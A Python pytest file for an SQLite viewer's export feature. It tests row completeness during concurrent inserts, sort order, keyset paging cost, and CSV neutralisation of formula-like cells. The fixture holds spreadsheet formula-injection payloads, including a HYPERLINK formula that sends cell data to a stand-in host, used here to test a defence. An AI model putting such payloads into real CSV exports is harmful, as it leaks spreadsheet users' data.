"""Exports: every row of the start once while another process inserts, the view's own rows in its own order (NULLs,
mixed directions, tables without an increasing key, views), and CSV cells no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from eyelet_gui.sources.export import CHUNK_ROWS, export_chunks
from eyelet_gui.sources.keyset import Bound, page_order, page_statement
from eyelet_gui.sources.query import Filter, Query, Sort, Statement, window_statement
from eyelet_gui.sources.sqlite.reader import Reader
from eyelet_gui.sources.sqlite.schema import read_relations

from .conftest import make_database
from .writer import write

LOG_ROWS = CHUNK_ROWS * 10 + 7
LOG = f"""
PRAGMA journal_mode = WAL;
CREATE TABLE log (id INTEGER PRIMARY KEY, note TEXT);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {LOG_ROWS})
INSERT INTO log (note) SELECT 'row ' || i FROM n;
"""
MIXED = """
CREATE TABLE m (id INTEGER PRIMARY KEY, kind TEXT, size REAL);
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 500)
INSERT INTO m (kind, size) SELECT CASE i % 4 WHEN 0 THEN NULL WHEN 1 THEN 'a' WHEN 2 THEN 'b' ELSE 'c' END,
                                  CASE WHEN i % 7 = 0 THEN NULL ELSE i % 13 END FROM n;
CREATE TABLE pairs (name TEXT, n INTEGER, PRIMARY KEY (name, n)) WITHOUT ROWID;
INSERT INTO pairs SELECT kind || id, size FROM m WHERE kind IS NOT NULL AND size IS NOT NULL;
CREATE TABLE codes (code TEXT PRIMARY KEY, size REAL);
INSERT INTO codes SELECT CASE WHEN id % 3 = 0 THEN NULL ELSE 'code ' || id END, size FROM m;
CREATE VIEW big AS SELECT kind, size FROM m WHERE size > 3;
CREATE TABLE stamps (id INTEGER PRIMARY KEY, at REAL NOT NULL, kind TEXT);
CREATE INDEX stamps_at ON stamps (at);
INSERT INTO stamps (at, kind) SELECT 1000 + id % 9, kind FROM m;
"""
"""NULLs in sort columns and in a rowid table's TEXT key (SQLite lets it hold NULL many times), runs of equal values
longer than a chunk, a WITHOUT ROWID table's composite key, and a view."""


async def exported(reader: Reader, query: Query, kind: str, chunk_rows: int = CHUNK_ROWS,
                   between_chunks: Any = None) -> str:
    relation = {relation.name: relation for relation in await reader.relations()}[query.relation]
    texts: list[str] = []
    async for text in export_chunks(reader, relation, query, kind, lambda rows: None, chunk_rows=chunk_rows):
        if between_chunks and texts:  # the first text ('[' or '') comes before the export's first read
            between_chunks()
        texts.append(text)
    return ''.join(texts)


async def test_an_export_holds_each_row_of_its_start_once_while_another_process_inserts(tmp_path: Path) -> None:
    path = make_database(tmp_path / 'log.db', LOG)
    reader = Reader(path)

    def insert_three() -> None:  # before every chunk but the first: each shifted OFFSET's pages by three
        write(path, "INSERT INTO log (note) VALUES ('written during the export')", repeat=3)

    try:
        newest_first = json.loads(await exported(reader, Query(relation='log'), 'json', between_chunks=insert_three))
        at_start = await reader.value(Statement('SELECT max(id) FROM log'))
        oldest_first = json.loads(await exported(reader, Query(relation='log', sort=(Sort('id'),)), 'json',
                                                 between_chunks=insert_three))
        at_end = await reader.value(Statement('SELECT max(id) FROM log'))
    finally:
        await reader.close()
    assert [record['id'] for record in newest_first] == list(range(LOG_ROWS, 0, -1))
    assert newest_first[0] == {'id': LOG_ROWS, 'note': f'row {LOG_ROWS}'}
    assert at_start == LOG_ROWS + 3 * 12
    assert [record['id'] for record in oldest_first] == list(range(1, at_start + 1))
    assert at_end == at_start + 3 * 12


QUERIES = [
    Query(relation='m', sort=(Sort('kind'), Sort('size', descending=True))),
    Query(relation='m', sort=(Sort('size', descending=True), Sort('kind'))),
    Query(relation='m', sort=(Sort('kind', descending=True),), filters=(Filter('size', '>', 4),)),
    Query(relation='m', sort=(Sort('size'),), search='a'),
    Query(relation='pairs'),
    Query(relation='pairs', sort=(Sort('n', descending=True),)),
    Query(relation='codes', sort=(Sort('code'),)),
    Query(relation='codes', sort=(Sort('size', descending=True), Sort('code', descending=True))),
    Query(relation='big', sort=(Sort('size'),)),
    Query(relation='stamps', sort=(Sort('at', descending=True),)),
    Query(relation='stamps', sort=(Sort('at'), Sort('kind', descending=True))),
]


@pytest.mark.parametrize('query', QUERIES, ids=[f'{q.relation}-{q.sort}-{q.filters}-{q.search}' for q in QUERIES])
async def test_a_sorted_filtered_export_holds_the_views_rows_in_its_order(tmp_path: Path, query: Query) -> None:
    path = make_database(tmp_path / 'mixed.db', MIXED)
    reader = Reader(path)
    try:
        relation = {relation.name: relation for relation in await reader.relations()}[query.relation]
        direct = await reader.fetch(window_statement(relation, dataclasses.replace(query, limit=-1)))
        records = json.loads(await exported(reader, query, 'json', chunk_rows=7))
    finally:
        await reader.close()
    width = len(relation.key)
    expected = [dict(zip(direct.columns[width:], row[width:], strict=True)) for row in direct.rows]
    assert len(expected) > 30
    assert records == expected


FORMULAS = """
CREATE TABLE cells (id INTEGER PRIMARY KEY, "=title" TEXT, value);
INSERT INTO cells ("=title", value) VALUES
  ('=1+1', '=HYPERLINK("http://example.com?"&A1,"x")'), ('+cmd', '-2+3'), ('@SUM(A1:A2)', char(9) || 'tab'),
  (char(13) || 'cr', char(10) || 'lf'), ('  =spaced', char(65309) || 'wide'), ('-12.5', '+3'),
  ('plain', 'a=b'), (NULL, -5), ('', 1.5), ('-', x'3d31');
"""


async def test_csv_cells_that_start_like_a_formula_are_neutralised_and_json_is_untouched(tmp_path: Path) -> None:
    path = make_database(tmp_path / 'cells.db', FORMULAS)
    reader = Reader(path)
    try:
        rows = list(csv.reader(io.StringIO(await exported(reader, Query(relation='cells', sort=(Sort('id'),)),
                                                          'csv'))))
        records = json.loads(await exported(reader, Query(relation='cells', sort=(Sort('id'),)), 'json'))
    finally:
        await reader.close()
    assert rows == [
        ['id', "'=title", 'value'],
        ['1', "'=1+1", '\'=HYPERLINK("http://example.com?"&A1,"x")'],
        ['2', "'+cmd", "'-2+3"],
        ['3', "'@SUM(A1:A2)", "'\ttab"],
        ['4', "'\rcr", "'\nlf"],
        ['5', "'  =spaced", "'\uff1dwide"],
        ['6', '-12.5', '+3'],
        ['7', 'plain', 'a=b'],
        ['8', '', '-5'],
        ['9', '', '1.5'],
        ['10', "'-", 'PTE='],  # x'3d31' in base64, as every BLOB leaves (sources/json_values.py)
    ]
    assert [record['=title'] for record in records] == ['=1+1', '+cmd', '@SUM(A1:A2)', '\rcr', '  =spaced', '-12.5',
                                                        'plain', None, '', '-']
    assert records[2]['value'] == '\ttab'


@pytest.mark.parametrize('descending', [False, True])
async def test_a_page_sorted_by_an_indexed_column_seeks_to_where_it_starts(tmp_path: Path, descending: bool) -> None:
    path = make_database(tmp_path / 'mixed.db', MIXED)
    reader = Reader(path)
    try:
        stamps = {relation.name: relation for relation in await reader.relations()}['stamps']
        query = Query(relation='stamps', sort=(Sort('at', descending),))
        page = page_statement(stamps, query, page_order(stamps, query), after=(1004.0, 250), bound=Bound('id', 500),
                              limit=7)
        plan = await reader.fetch(Statement(f'EXPLAIN QUERY PLAN {page.sql}', page.parameters))
    finally:
        await reader.close()
    assert [row[-1] for row in plan.rows] == [f'SEARCH stamps USING INDEX stamps_at (at{"<" if descending else ">"}?)']


def test_a_page_costs_the_same_wherever_it_starts(tmp_path: Path) -> None:
    path = make_database(tmp_path / 'log.db', LOG)
    with sqlite3.connect(path) as connection:
        relation = {relation.name: relation for relation in read_relations(connection)}['log']
        query = Query(relation='log')

        def steps(after: int) -> int:
            """SQLite virtual machine steps of the newest-first page after `after`."""
            counted = 0

            def count() -> int:
                nonlocal counted
                counted += 1
                return 0

            page = page_statement(relation, query, page_order(relation, query), after=(after,),
                                  bound=Bound('id', LOG_ROWS), limit=10)
            connection.set_progress_handler(count, 1)
            assert [row[0] for row in connection.execute(page.sql, page.parameters)] == list(range(after - 1,
                                                                                                   after - 11, -1))
            connection.set_progress_handler(None, 1)
            return counted

        assert steps(20) == steps(LOG_ROWS - 20)
